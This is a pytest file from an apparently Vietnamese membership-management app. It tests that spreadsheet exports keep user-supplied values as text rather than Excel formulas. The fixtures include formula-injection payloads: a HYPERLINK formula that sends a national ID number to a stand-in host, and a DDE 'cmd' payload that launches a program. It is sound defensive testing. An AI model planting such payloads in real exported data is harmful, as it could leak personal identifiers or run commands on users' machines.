"""Formula injection, output side (issue 22, point 1): every cell an export writes from data is text.

A job title `=HYPERLINK("http://x.example/?"&J10,"Chi tiết")` imported from a member list, an organization
named `=1+1`, a user name typed at the login screen: on the sheet they are words, never formulas that
Excel would run (one click would send the CCCD number in column J out).
"""

from __future__ import annotations

import datetime as dt
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from factories import add_decision, add_member, add_org
from khoi_desktop.core.audit import record
from khoi_desktop.core.audit_log import AuditFilter, audit_entries
from khoi_desktop.core.db import Database
from khoi_desktop.core.models import OrgKind
from khoi_desktop.core.register import register_rows
from khoi_desktop.spreadsheets.audit_export import audit_workbook
from khoi_desktop.spreadsheets.exports import ExportKind, ExportOptions, export, register_workbook

TODAY = dt.date(2025, 6, 1)
LINK = '=HYPERLINK("http://x.example/?"&J10,"Chi tiết")'
ORG = "=1+1 Chi bộ"
TCCSD = "=SUM(A1) Đảng bộ"
USER = "=cmd|' /C calc'!A0"
SUBJECT = "=về việc thành lập"
SIGNER = "-Nguyễn Văn Hùng"


@pytest.fixture
def office(db: Database) -> Database:
    with db.writing() as s:
        root = add_org(s, "DB01", TCCSD, OrgKind.DANG_BO_CO_SO)
        chi_bo = add_org(s, "CB11", ORG, OrgKind.CHI_BO_TRUC_THUOC, parent=root)
        add_member(s, "Nguyễn Văn An", chi_bo, code="DV000001", national_id="001080000001", job_title=LINK,
                   admitted_on=dt.date(2010, 5, 19))
        decision = add_decision(s, 7, SUBJECT, issued_on=dt.date(2025, 2, 3))
        decision.signer = SIGNER
        decision.content = json.dumps({"recipients": ["=Như Điều 3"]}, ensure_ascii=False)
        record(s, actor=USER, action="login.failed", target=USER)
    return db


def no_formulas(ws: Worksheet, *expected: str) -> None:
    """No cell is a formula, and each dangerous text is there as a text cell, unchanged."""
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type in ("s", "inlineStr")}
    for text in expected:
        assert any(isinstance(t, str) and text in t for t in texts), text


def exported(db: Database, kind: ExportKind, tmp_path: Path, **options: object) -> Worksheet:
    path = tmp_path / f"{kind.value}.xlsx"
    with db.reading() as session:
        export(session, kind, path, ExportOptions(today=TODAY, **options))  # type: ignore[arg-type]
    ws = load_workbook(path).active
    assert ws is not None
    return ws


def test_member_list_keeps_job_and_organization_names_as_text(office: Database, tmp_path: Path) -> None:
    no_formulas(exported(office, ExportKind.MEMBERS, tmp_path), LINK, ORG, TCCSD)


def test_organization_list_keeps_names_as_text(office: Database, tmp_path: Path) -> None:
    no_formulas(exported(office, ExportKind.ORGANIZATIONS, tmp_path), ORG, TCCSD)


def test_register_keeps_subject_signer_and_recipients_as_text(office: Database, tmp_path: Path) -> None:
    no_formulas(exported(office, ExportKind.REGISTER, tmp_path, start=dt.date(2025, 1, 1)), SUBJECT, SIGNER,
                "=Như Điều 3")
    with office.reading() as session:
        data = register_workbook(session, register_rows(session), "Cả năm", today=TODAY)
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    no_formulas(ws, SUBJECT, SIGNER)


def test_bieu1_keeps_organization_names_as_text(office: Database, tmp_path: Path) -> None:
    no_formulas(exported(office, ExportKind.BIEU1, tmp_path, start=dt.date(2025, 1, 1)), TCCSD)


def test_bieu5_has_no_formula(office: Database, tmp_path: Path) -> None:
    no_formulas(exported(office, ExportKind.BIEU5, tmp_path))  # kinds of organization only, no names


def test_audit_export_keeps_a_typed_user_name_as_text(office: Database) -> None:
    with office.reading() as session:
        data = audit_workbook(session, audit_entries(session, AuditFilter()), f"người thực hiện {USER}",
                              today=TODAY)
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    no_formulas(ws, USER)
